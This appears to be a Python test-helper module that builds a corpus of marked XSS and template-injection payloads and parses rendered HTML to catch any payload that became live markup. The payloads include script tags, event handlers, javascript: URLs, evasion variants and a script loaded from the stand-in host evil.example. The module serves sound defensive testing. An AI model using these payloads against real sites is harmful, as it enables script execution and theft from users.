"""The XSS corpus (reliability plan T-IN-2) and the checks applied to every rendered surface.

Every payload carries a unique marker (XSS01, XSS02, …) so a check can tell the stored
payload from the page's own markup: the admin legitimately has <script> tags; it must never
have one whose body, or an event-handler attribute or a javascript: URL, holds a marker.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

_TEMPLATES = [
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    '"><script>alert("{m}")</script>',
    "'><script>alert('{m}')</script>",
    '"><img src=x onerror=alert("{m}")>',
    "<img src=x onerror=alert('{m}')//",
    "<IMG SRC=\"javascript:alert('{m}');\">",
    "<img src=`javascript:alert('{m}')`>",
    "<svg onload=alert('{m}')>",
    "<svg/onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<body onload=alert('{m}')>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "<a href=\"javascript:alert('{m}')\">klik</a>",
    "<a href=\" javascript:alert('{m}')\">klik</a>",
    "<a href=\"jav&#x09;ascript:alert('{m}')\">klik</a>",
    "<a href=\"data:text/html,<script>alert('{m}')</script>\">klik</a>",
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    "<details open ontoggle=alert('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "<base href=\"javascript:alert('{m}')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
    "<div style=\"background:url(javascript:alert('{m}'))\">x</div>",
    "'-alert('{m}')-'",
    "\";alert('{m}');//",
    "</script><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "{m}{{{{7*7}}}}",
    "{m}${{7*7}}",
    "{m}{{% debug %}}",
    "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
    "<xss onpointerover=alert('{m}')>hover</xss>",
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
]

PAYLOADS = [template.format(m=f"XSS{n:02d}") for n, template in enumerate(_TEMPLATES, 1)]
MARKER = re.compile(r"XSS\d\d")

_URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "srcdoc",
    "background",
    "poster",
}
_NEVER_FROM_INPUT = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "link",
    "frame",
    "style",
    "svg",
    "math",
    "body",
}
# Data blocks are not run; a payload breaking out of one shows up as a new <script> tag.
_DATA_SCRIPT_TYPES = {"application/json", "application/ld+json"}
_BAD_URL = re.compile(r"^(?:javascript|vbscript|data\s*:\s*text/html)", re.IGNORECASE)


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._raw_text_tag: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            if not MARKER.search(value) and not MARKER.search(name):
                continue
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> runs stored input")
            squeezed = re.sub(r"[\s\x00-\x1f]+", "", value)
            if name in _URL_ATTRIBUTES and _BAD_URL.match(squeezed):
                self.problems.append(f"<{tag} {name}={value[:60]!r}> is a script URL")
            if name == "srcdoc" or name == "style":
                self.problems.append(f"<{tag} {name}=…> carries stored input")
            if tag in _NEVER_FROM_INPUT:
                self.problems.append(f"<{tag}> carries stored input in {name}")
            if tag == "meta" and name == "content" and dict(attrs).get("http-equiv"):
                self.problems.append("<meta http-equiv> carries stored input")
        if tag == "style" or (
            tag == "script" and (dict(attrs).get("type") or "").lower() not in _DATA_SCRIPT_TYPES
        ):
            self._raw_text_tag = tag

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw_text_tag:
            self._raw_text_tag = None

    def handle_data(self, data: str) -> None:
        if self._raw_text_tag and MARKER.search(data):
            self.problems.append(f"<{self._raw_text_tag}> holds stored input: {data[:60]!r}")


def html_problems(text: str) -> list[str]:
    """Ways in which a stored payload became live markup in `text` (an HTML document)."""
    inspector = _Inspector()
    inspector.feed(text)
    inspector.close()
    problems = inspector.problems
    if re.search(r"XSS\d\d49", text):
        problems.append("a template expression in stored input was evaluated")
    return problems


def assert_safe_html(text: str, where: str) -> None:
    problems = html_problems(text)
    assert not problems, f"{where}: {problems[:5]}"


def assert_reached(text: str, where: str, at_least: int = 1) -> None:
    """The surface really showed stored payloads (escaped), so the check above meant something."""
    found = set(MARKER.findall(html.unescape(text)))
    assert len(found) >= at_least, f"{where}: only {sorted(found)} of the payloads shown"
